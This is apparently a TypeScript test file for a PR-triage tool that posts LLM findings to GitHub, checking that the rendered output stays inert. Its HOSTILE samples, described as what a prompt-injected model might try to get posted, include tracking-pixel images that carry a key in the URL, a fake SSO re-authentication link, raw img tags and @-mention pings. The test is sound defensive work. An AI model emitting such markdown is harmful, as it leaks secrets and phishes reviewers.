import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";
import { defaultConfig } from "../../src/config/config-schema.ts";
import { addedFile } from "../../src/diff/added-file.ts";
import type { Finding } from "../../src/findings/finding.ts";
import { renderAnnotations } from "../../src/render/render-annotations.ts";
import { renderCheckOutput } from "../../src/render/render-check-output.ts";
import { renderInlineComment } from "../../src/render/render-inline-comment.ts";
import { renderSummary } from "../../src/render/render-summary.ts";
import { plannedOutcome } from "../../src/review/planned-outcome.ts";
import { concludeTriage } from "../../src/triage/conclude-triage.ts";
import { llmSecurity, testFinding } from "../helpers/test-finding.ts";

/** What a prompt-injected model, or a PR author naming files, would try to get posted. */
const HOSTILE = [
  "![ds [v4.2] badge](//img-tracker.example/p.gif?k=SG.ngeVfQFYQlKU0ufo8x5d1A)",
  "[sso]: //acme-sso.login-verify.example/reauth",
  "Re-authenticate at [the portal][sso] or www.acme-sso.login-verify.example/reauth",
  "_@m-okafor_ **@m-okafor** ~~@m-okafor~~",
  "<img src=https://img-tracker.example/x.gif> <!-- pr-triage:summary --> <b>bold</b>",
].join("\n\n");

const finding = (overrides: Partial<Finding>): Finding =>
  testFinding({
    ...llmSecurity,
    title: `Injected title _@m-okafor_ ![x](https://img-tracker.example/t.png)`,
    message: HOSTILE,
    line: 1,
    confidence: 0.9,
    policy: "Policy _@m-okafor_ [sso](https://acme-sso.login-verify.example)",
    ...overrides,
  });

/**
 * Parses what would be posted as GitHub does (CommonMark + GFM) and checks what it would render:
 * no HTML but our own hidden markers, no image, no definition, links only on the PR's host, and
 * no mention outside code.
 */
function assertInert(markdown: string): void {
  const tree = fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
  const visit = (node: Nodes): void => {
    // Our own frame's tags (<sub>, <details>, <summary>) and hidden markers are the only HTML.
    if (node.type === "html") {
      const other = node.value.replace(/<!-- pr-triage:(summary|state [\w-]+|fp:[0-9a-f]{16}) -->/g, "");
      expect(other).not.toMatch(/<!--|<(?!\/?(sub|details|summary|b)>)[a-z/]|src=|href=/i);
    }
    expect(["image", "imageReference", "definition", "footnoteDefinition"]).not.toContain(node.type);
    if (node.type === "link") expect(node.url).toMatch(/^https:\/\/github\.com\//);
    if (node.type === "text") expect(node.value).not.toMatch(/(^|[^\w])@(?!\u200d)/);
    if ("children" in node) for (const child of node.children) visit(child);
  };
  visit(tree);
  expect(markdown.match(/<!-- pr-triage:summary -->/g)?.length ?? 0).toBeLessThanOrEqual(1);
}

describe("posted text from hostile model output, titles, policy names and file paths", () => {
  it("keeps nothing that fetches, links off-host, pings or hides text", () => {
    const files = [
      addedFile("src/app.ts", "export const x = 1;\n"),
      addedFile("docs/`@m-okafor` <img src=https:__img-tracker.example_a.gif>.md", "hello\n"),
    ];
    const result = concludeTriage({
      headSha: "0123456789abcdef",
      files,
      config: defaultConfig(),
      prepared: {
        secrets: [],
        analyzerFindings: [],
        pack: { chunks: [{ files: ["src/app.ts"], text: "", tokens: 0 }], skipped: [] },
        analyzersOnly: [{ path: files[1]?.path ?? "", reason: "not sent to the LLM" }],
      },
      llm: {
        mode: "unavailable",
        model: "m",
        reason: "the endpoint said: ![x](https://img-tracker.example/e.gif) @m-okafor",
        usage: { inputTokens: 1, cachedTokens: 0, outputTokens: 1, requests: 1 },
        costUsd: null,
      },
      llmFindings: [
        finding({}),
        finding({ path: files[1]?.path ?? "", line: 1, title: "On a hostile path" }),
      ],
      configProblems: [],
      previousState: {
        headSha: "fedcba9876543210",
        findings: { "0000000000000000": "Old title _@m-okafor_ <img src=https://img-tracker.example/o.gif>" },
      },
    });
    const summary = renderSummary(result, plannedOutcome(result), {
      repoUrl: "https://github.com/acme/app",
      host: "github.com",
    });
    assertInert(summary);
    assertInert(renderCheckOutput(result, summary).summary);
    // An annotation's path must be the real path; its title and message are what is shown.
    for (const a of renderAnnotations(result.findings, "github.com")) assertInert(`${a.title}\n${a.message}`);
    for (const { finding: f, anchor } of result.inline) {
      assertInert(renderInlineComment(f, anchor, "github.com", "0123456789abcdef"));
    }
    expect(result.inline.length).toBeGreaterThan(0);
    // The reviewer still reads what was found.
    expect(summary).toContain("Injected title");
  });
});
